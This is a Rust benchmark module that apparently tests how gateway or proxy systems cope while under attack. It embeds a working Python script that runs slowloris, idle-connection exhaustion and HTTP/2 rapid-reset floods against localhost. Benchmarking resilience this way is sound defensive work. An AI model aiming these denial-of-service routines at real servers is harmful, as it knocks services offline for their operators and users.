//! `cargo xtask bench --only attack`: each system while it is attacked. A steady legitimate
//! client (oha, open loop, a new connection per request) runs beside 2,000 slowloris
//! connections, 9,000 idle connections (what HAProxy's maxconn and the file limit allow here),
//! or HTTP/2 rapid-reset clients over TLS; the figures are its success rate and p99, and the
//! system's CPU and memory meanwhile. The attackers are one asyncio script on the load CPU.

use std::io::BufRead;
use std::process::{Command, Stdio};
use std::time::Duration;

use anyhow::{Context, Result, bail};

use super::fixtures::Fixtures;
use super::load::{self, OhaTarget};
use super::sut::{self, Options, Sut};
use super::{Plan, Record, shuffled};

/// The legitimate client's rate: well below every system's maximum, so that what it sees is
/// the attack's doing.
pub const LEGIT_RATE: u32 = 500;

/// The attacks: (test name, script mode, connections, on the TLS port).
const ATTACKS: [(&str, &str, usize, bool); 4] = [
    ("A0-none", "none", 0, false),
    ("A1-slowloris", "slowloris", 2_000, false),
    ("A2-idle", "idle", 9_000, false),
    ("A3-rapid-reset", "rapid-reset", 4, true),
];

const ATTACKER: &str = r#"
import asyncio, json, resource, ssl, struct, sys
hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
mode, port, count, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
stats = {"opened": 0, "closed_by_server": 0, "goaways": 0, "streams_reset": 0}

async def slowloris():
    r, w = await asyncio.open_connection("127.0.0.1", port)
    stats["opened"] += 1
    w.write(b"GET / HTTP/1.1\r\nHost: r1.bench.test\r\n")
    await w.drain()
    i = 0
    while True:
        await asyncio.sleep(5)
        if r.at_eof():
            break
        w.write(b"X-%d: a\r\n" % i)
        i += 1
        await w.drain()
    stats["closed_by_server"] += 1

async def idle():
    r, w = await asyncio.open_connection("127.0.0.1", port)
    stats["opened"] += 1
    await r.read()
    stats["closed_by_server"] += 1

def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload

def literal(name, value):
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value

REQUEST = (literal(b":method", b"GET") + literal(b":scheme", b"https")
           + literal(b":authority", b"r1.bench.test") + literal(b":path", b"/"))

async def rapid_reset():
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    while True:
        r, w = await asyncio.open_connection("127.0.0.1", port, ssl=context, server_hostname="r1.bench.test")
        stats["opened"] += 1
        w.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
        gone = asyncio.Event()
        async def read():
            try:
                while True:
                    head = await r.readexactly(9)
                    length = int.from_bytes(head[:3], "big")
                    await r.readexactly(length)
                    if head[3] == 7:
                        stats["goaways"] += 1
                        break
            except Exception:
                pass
            gone.set()
        reader = asyncio.ensure_future(read())
        stream = 1
        try:
            while not gone.is_set() and stream < 2**31 - 200:
                batch = b""
                for _ in range(100):
                    batch += frame(1, 0x5, stream, REQUEST) + frame(3, 0, stream, b"\x00\x00\x00\x08")
                    stream += 2
                w.write(batch)
                stats["streams_reset"] += 100
                await w.drain()
                await asyncio.sleep(0)
        except Exception:
            pass
        stats["closed_by_server"] += 1
        reader.cancel()
        w.close()

async def main():
    attack = {"slowloris": slowloris, "idle": idle, "rapid-reset": rapid_reset}.get(mode)
    tasks = []
    for i in range(0, count, 500):
        for _ in range(min(500, count - i)):
            tasks.append(asyncio.ensure_future(attack()))
        await asyncio.sleep(0.2)
    await asyncio.sleep(1)
    print("ready", flush=True)
    await asyncio.sleep(seconds)
    print(json.dumps(stats), flush=True)

asyncio.run(main())
"#;

/// Runs every attack against every system; one record per system and attack.
pub fn run(plan: &Plan, fixtures: &Fixtures, gateway: &std::path::Path) -> Result<Vec<Record>> {
    let mut records = Vec::new();
    let window = plan.run.max(Duration::from_secs(10));
    for (test, mode, count, tls) in ATTACKS {
        for kind in shuffled(0) {
            let sut = Sut::start(kind, fixtures, gateway, Options::default())?;
            let port = if tls { kind.ports().1 } else { kind.ports().0 };
            let mut attacker = Command::new("taskset")
                .args(["-c", sut::LOAD_CPU, "python3", "-c", ATTACKER, mode])
                .args([
                    port.to_string(),
                    count.to_string(),
                    (window.as_secs() + 2).to_string(),
                ])
                .stdout(Stdio::piped())
                .stderr(Stdio::null())
                .spawn()
                .context("start the attacker")?;
            let mut lines = std::io::BufReader::new(attacker.stdout.take().context("stdout")?)
                .lines()
                .map_while(Result::ok);
            if lines.next().as_deref() != Some("ready") {
                let _ = attacker.kill();
                bail!("the {mode} attacker did not start");
            }
            let cpu = sut.cpu_seconds();
            let legit = load::oha_fresh_connections(
                &OhaTarget {
                    port: kind.ports().0,
                    host: "r7.bench.test",
                },
                window,
                8,
                LEGIT_RATE,
            )?;
            let used = sut.cpu_seconds() - cpu;
            let pss = sut.pss_bytes();
            let stats: serde_json::Value = lines
                .next()
                .and_then(|line| serde_json::from_str(&line).ok())
                .unwrap_or_default();
            let _ = attacker.kill();
            let _ = attacker.wait();
            let ok = legit.ok.unwrap_or(0.0);
            let success = 100.0 * ok / (ok + legit.errors).max(1.0);
            let mut r = Record::new(kind.name(), test, 0);
            r.measured(&legit)
                .set("success_pct", success)
                .set("sut_cpu_s", used)
                .set("pss_bytes", pss as f64);
            for key in ["opened", "closed_by_server", "goaways", "streams_reset"] {
                if let Some(value) = stats[key].as_f64() {
                    r.set(&format!("attack_{key}"), value);
                }
            }
            println!(
                "  {test:15} {:8}: legit {success:.2}% ok, p99 {:.2} ms; SUT CPU {used:.2} s, Pss {:.1} MiB; attack {stats}",
                kind.name(),
                legit.p99_ms.unwrap_or(0.0),
                pss as f64 / (1024.0 * 1024.0),
            );
            records.push(r);
        }
    }
    Ok(records)
}
